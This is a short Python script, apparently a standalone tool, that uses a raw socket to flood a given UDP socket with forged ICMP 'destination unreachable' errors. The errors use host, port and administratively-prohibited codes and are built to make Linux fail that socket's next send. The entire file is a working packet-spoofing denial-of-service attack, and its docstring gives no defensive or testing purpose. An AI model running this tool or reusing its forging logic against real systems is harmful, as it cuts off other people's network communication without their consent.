"""Sends forged ICMP errors about datagrams of one socket, as fast as it can, until it is ended.

Each is about a datagram from that socket to another address. The codes are those by which Linux fails the
next send of a socket. Prints `forging`, and then `forged COUNT` again and again.

usage: icmp.py ADDRESS PORT OTHER (of the socket; the destination that the datagrams are said to have had)
"""

import itertools
import socket
import struct
import sys

UNREACHABLE = 3
HOST, PORT_CODE, ADMINISTRATIVE = 1, 3, 13


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def error(code: int, source: tuple[str, int], other: tuple[str, int]) -> bytes:
    """An ICMP error, with the heads of IPv4 and UDP of the datagram that it is about."""
    addresses = socket.inet_aton(source[0]) + socket.inet_aton(other[0])
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 28, 0, 0, 64, socket.IPPROTO_UDP, 0) + addresses
    udp = struct.pack("!HHHH", source[1], other[1], 8, 0)
    head = struct.pack("!BBHI", UNREACHABLE, code, 0, 0)
    return head[:2] + struct.pack("!H", checksum(head + ip + udp)) + head[4:] + ip + udp


def main() -> None:
    source, other = (sys.argv[1], int(sys.argv[2])), sys.argv[3]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    print("forging", flush=True)
    codes = itertools.cycle((HOST, PORT_CODE, ADMINISTRATIVE))
    for number in itertools.count(1):
        raw.sendto(error(next(codes), source, (other, 1024 + number % 60_000)), (source[0], 0))
        if number % 1000 == 0:
            print("forged", number, flush=True)


main()
